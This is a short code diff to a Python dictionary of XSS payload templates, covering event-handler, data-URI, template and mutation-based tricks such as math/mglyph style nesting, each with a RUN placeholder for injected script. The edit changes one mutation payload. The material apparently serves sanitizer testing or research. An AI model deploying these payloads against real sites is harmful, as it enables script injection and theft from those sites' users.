@@ -22,7 +22,7 @@ HTML = {
     "animation": "<style>@keyframes x{}</style><b style='animation:x 1s' onanimationstart=RUN>b</b>",
     "pointer": "<div onpointerover=RUN>hover</div>",
     "object": '<object data="data:text/html,<script>RUN</script>"></object>',
-    "mutation": "<math><mtext><table><mglyph><style><!--</style><i title='--&gt;&lt;img src onerror=RUN&gt;'>",
+    "mutation": "<math><mtext><table><mglyph><style><!--</style><b title='&lt;img src onerror=RUN&gt;'>",
     "annotation": '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml>',
     "attribute": '<b title="<table> onmouseover=RUN x=">hover</b>',
     "template": "<template><img src=x onerror=RUN></template><img src=x onerror=RUN>",
